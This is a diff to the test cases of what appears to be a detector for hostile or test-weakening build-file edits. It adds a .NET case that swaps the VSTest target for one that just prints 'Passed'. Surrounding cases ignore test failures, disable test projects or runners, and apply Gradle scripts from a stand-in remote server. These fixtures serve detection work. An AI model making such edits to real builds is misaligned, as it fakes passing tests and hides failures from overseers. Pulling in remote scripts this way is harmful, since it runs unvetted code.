@@ -70,6 +70,7 @@ HOSTILE = [
     Case("tests whose failure a build ignores", WEAKENED, "pom.xml", POM, POM.replace("<a/>", "<testFailureIgnore>true</testFailureIgnore>")),
     Case("checks whose failure Gradle ignores", WEAKENED, "build.gradle", GRADLE, GRADLE + "test {\n  ignoreFailures = true\n}\n"),
     Case("tests that no project of .NET has", WEAKENED, "Directory.Build.targets", "<Project>\n</Project>\n", '<Project>\n<PropertyGroup>\n<IsTestProject Condition="true">False</IsTestProject>\n</PropertyGroup>\n</Project>\n'),
+    Case("another target in place of the one that runs tests of .NET", WEAKENED, "tests/Shop.Tests.csproj", "<Project>\n</Project>\n", "<Project>\n<Target Name='VSTest'>\n<Message Text='Passed' />\n</Target>\n</Project>\n"),
     Case("no runner for the tests of .NET", WEAKENED, "Directory.Packages.props", "<Project>\n</Project>\n", '<Project>\n<ItemGroup>\n<PackageReference Update="xunit.runner.visualstudio" ExcludeAssets="All" />\n</ItemGroup>\n</Project>\n'),
     Case("a script of a server in a build of Gradle", COMMAND, "gradle/shared.gradle", GRADLE, GRADLE + "apply(from: 'https://build.example.org/shared.gradle')\n"),
     Case("a script of a server in a build of Gradle in Kotlin", COMMAND, "build.gradle.kts", "", "apply(from = \"http://build.example.org/a.gradle.kts\")\n"),
@@ -143,6 +144,7 @@ HOSTILE += [
 ]  # fmt: skip
 BENIGN = [
     Case("projects of .NET that hold tests", WEAKENED, "Directory.Build.targets", "<Project>\n</Project>\n", "<Project>\n<PropertyGroup>\n<IsTestProject>true</IsTestProject>\n</PropertyGroup>\n</Project>\n"),
+    Case("a target before the one that runs tests of .NET", WEAKENED, "tests/Shop.Tests.csproj", "<Project>\n</Project>\n", "<Project>\n<Target Name='Prepare' BeforeTargets='VSTest'>\n<Message Text='Preparing' />\n</Target>\n</Project>\n"),
     Case("a private package of .NET", WEAKENED, "Directory.Packages.props", "<Project>\n</Project>\n", '<Project>\n<ItemGroup>\n<PackageReference Update="xunit.runner.visualstudio" PrivateAssets="all" />\n</ItemGroup>\n</Project>\n'),
     Case("a script of the repository in a build of Gradle", COMMAND, "gradle/shared.gradle", GRADLE, GRADLE + "apply(from: 'gradle/checks.gradle') // https://docs.gradle.org\n"),
     Case("another setting", WEAKENED, "shop/settings.py", SETTINGS, SETTINGS + "TIME_ZONE = 'UTC'\n"),
